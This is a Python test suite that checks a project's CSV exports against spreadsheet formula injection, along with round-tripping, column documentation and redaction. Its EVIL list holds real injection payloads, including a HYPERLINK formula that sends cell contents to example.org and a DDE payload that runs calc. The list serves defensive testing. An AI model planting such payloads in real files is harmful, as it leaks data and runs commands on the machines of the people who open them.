"""The tables as CSV: nothing in them starts a formula, everything can be had again."""

from __future__ import annotations

import csv
import io
import random
import re
import unicodedata
from dataclasses import replace
from typing import Any

import pandas as pd
import pytest
from constructed_brief import constructed
from hypothesis import given, settings
from hypothesis import strategies as st

from rashomon.brief import citation, csv_files, guarded, restored, share
from rashomon.brief.columns import COLUMNS
from rashomon.brief.tables import tables
from rashomon.model import Brief

EVIL = [
    '=HYPERLINK("http://example.org/?"&A1,"more")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "  =1+1", '"=1+1"', "“=1+1”", "＝1+1", "﹢1", "－1", "＠x", "\ufeff=1+1", "\u200b=1", "'=1+1", "''=1", "a;=1+1", "a\n=1+1", "a\t+1",
    'x"; =1;"', "\ttabbed", "\x00=1", "⁼1", "\u2028=1", "-", "=",
]  # fmt: skip
PLAIN = [
    "A market",
    "3-4 dead",
    "a=b",
    "he said: -5",
    "'tis",
    "“No,” he said",
    "–2",
    "",
    "42",
    "a; b",
    "line\nline",
    "(=1)",
    "a, -5",
]
DANGEROUS = st.text(st.sampled_from([*"ab=+-@;,\t\n\r\"' ", "＝", "\u200b", "“", "\ufeff", "\x00", "\u2028"]))


def begins_a_formula(cell: str) -> bool:
    """An oracle of its own: what comes first when everything is dropped that a program might drop. An apostrophe makes a text."""
    for c in cell:
        if unicodedata.normalize("NFKC", c)[0] in "=+-@":
            return True
        if c not in '"`´' and unicodedata.category(c) not in ("Zs", "Cc", "Cf", "Pi", "Pf", "Zl", "Zp"):
            return False
    return False


@given(DANGEROUS | st.text())
@settings(max_examples=400)
def test_what_is_guarded_comes_back_and_nothing_else_changes(text: str) -> None:
    cell = guarded(text)
    assert restored(cell) == text
    assert cell == text or re.sub("'", "", cell) == re.sub("'", "", text)


@given(DANGEROUS)
@settings(max_examples=400)
def test_no_cell_starts_a_formula_whatever_separates_cells(text: str) -> None:
    cell = guarded(text)
    assert not begins_a_formula(cell)
    assert cell[:1] not in ("\t", "\r", "\n")
    for part in re.split(r"[;\t\r\n\v\f\x1c-\x1e\x85\u2028\u2029]", cell):
        assert not begins_a_formula(part), (text, part)


@pytest.mark.parametrize("text", EVIL)
def test_evil_is_guarded(text: str) -> None:
    assert guarded(text) != text
    assert restored(guarded(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_words_are_left_alone(text: str) -> None:
    assert guarded(text) == text


def rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def poisoned(seed: int) -> Brief:
    """The constructed brief with evil words wherever a document's words go."""
    chance = random.Random(seed)
    brief = constructed()

    def evil(_: Any = None) -> str:
        return chance.choice(EVIL)

    return replace(
        brief,
        reports=tuple(replace(r, title=evil(), publisher=evil(), url=evil(), language="en") for r in brief.reports),
        statements=tuple(
            replace(
                s,
                content=replace(s.content, text=evil()),
                speaker=replace(s.speaker, name=evil(), role=evil()) if s.speaker else None,
                asserts=tuple(replace(a, value=evil(), text=evil(), party=evil()) for a in s.asserts),
            )
            for s in brief.statements
        ),
        incidents=tuple(
            replace(i, label=evil(), claims=tuple(replace(c, named_attacker=evil(), channel=evil()) for c in i.claims))
            for i in brief.incidents
        ),
    )


@pytest.mark.parametrize("seed", range(4))
def test_every_cell_of_a_poisoned_brief_is_safe_and_recoverable(seed: int) -> None:
    brief = poisoned(seed)
    files, frames = csv_files(brief), tables(brief)
    found = 0
    for name, columns in COLUMNS.items():
        header, *body = rows(files[f"{name}.csv"])
        assert header == list(columns)
        assert len(body) == len(frames[name])
        for row, given_row in zip(body, frames[name].itertuples(index=False), strict=True):
            for cell, value in zip(row, given_row, strict=True):
                if isinstance(value, str):
                    assert not begins_a_formula(cell)
                    assert cell[:1] not in ("\t", "\r")
                    assert restored(cell) == value
                    found += cell != value
                elif isinstance(value, bool):
                    assert cell == str(value).lower()
                elif value is None or value != value:
                    assert cell == ""
                else:
                    assert float(cell) == pytest.approx(float(value), abs=1e-9)
    assert found > 50


def test_numbers_stay_numbers_and_texts_stand_in_quotation_marks() -> None:
    brief = constructed()
    south = replace(
        brief,
        incidents=tuple(replace(i, place=replace(i.place, lat=-33.5, lon=-0.25)) if i.place else i for i in brief.incidents),
    )  # fmt: skip
    found = pd.read_csv(io.BytesIO(csv_files(south)["incidents.csv"]))
    assert found.lat.dropna().unique().tolist() == [-33.5]
    raw = csv_files(south)["incidents.csv"].decode("utf-8-sig")
    assert ",-33.5,-0.25," in raw
    starts = pd.read_csv(io.BytesIO(csv_files(brief)["statements.csv"])).start.dropna()
    assert (starts == starts.astype(int)).all()
    assert not re.search(r",\d+\.0,", csv_files(brief)["statements.csv"].decode())


def test_an_empty_brief_has_every_table_with_its_columns() -> None:
    empty = Brief(
        version="0", as_of=None, reports=(), sources=(), actors=(), statements=(), incidents=(), unread=(), issues=()
    )
    files = csv_files(empty)
    assert set(files) == {*(f"{name}.csv" for name in COLUMNS), "columns.csv", "README.txt"}
    assert all(rows(files[f"{name}.csv"]) == [list(columns)] for name, columns in COLUMNS.items())


def test_the_order_of_what_came_in_changes_no_byte() -> None:
    brief, chance = constructed(), random.Random(3)

    def turned(items: tuple[Any, ...]) -> tuple[Any, ...]:
        return tuple(chance.sample(items, len(items)))

    for _ in range(3):
        other = replace(
            brief, reports=turned(brief.reports), statements=turned(brief.statements), incidents=turned(brief.incidents)
        )
        assert csv_files(other) == csv_files(brief)


def test_every_column_is_explained_and_no_other() -> None:
    header, *body = rows(csv_files(constructed())["columns.csv"])
    assert header == ["table", "column", "meaning"]
    assert [(t, c, m) for t, c, m in body] == [(t, c, m) for t, cs in COLUMNS.items() for c, m in cs.items()]


def test_the_page_about_exports_explains_the_same_columns(repository: Any) -> None:
    page = (repository / "docs" / "reference" / "export.md").read_text("utf-8").partition("## Columns")[2]
    said = {
        part.partition("\n")[0]: dict(re.findall(r"^\| `(\w+)` \| (.*) \|$", part, re.MULTILINE))
        for part in page.split("### ")[1:]
    }
    assert said == {t: {c: m.replace("|", "\\|") for c, m in cs.items()} for t, cs in COLUMNS.items()}


def test_what_is_withheld_is_in_no_cell() -> None:
    brief = constructed()
    whole = b"".join(csv_files(brief).values()).decode()
    shared = b"".join(csv_files(share(brief)).values()).decode()
    for name in ("Example Attacker", "Example Suspect"):
        assert name in whole
        assert name not in shared
    assert "name withheld" in shared


def test_citations_hold_what_is_needed_to_find_the_words() -> None:
    brief = constructed()
    reports = {r.id: r for r in brief.reports}
    for s in brief.statements:
        report, words = reports[s.report], citation(s, reports[s.report])
        assert s.content.text in words
        for part in (report.publisher, report.title, report.url, report.sha256[:16], s.id):
            assert part is None or part in words
        starts = [span.start for span in s.content.spans if span.start is not None]
        if starts:
            number = int(re.findall(r"paragraph (\d+), characters", words)[0])
            paragraphs = re.split(r"\n\s*\n", report.text)
            assert report.text[starts[0] : starts[0] + 12].strip()[:8] in " ".join(paragraphs[number - 1 :])
            assert sum(len(p) + 2 for p in paragraphs[: number - 1]) <= min(starts) + 1


def test_a_citation_of_excerpts_says_so_and_counts_no_paragraph() -> None:
    brief = share(constructed())
    reports = {r.id: r for r in brief.reports}
    cut = [s for s in brief.statements if "excerpts" in (reports[s.report].note or "")]
    assert cut
    for s in cut:
        words = citation(s, reports[s.report])
        assert "of the excerpts" in words
        assert "paragraph" not in words
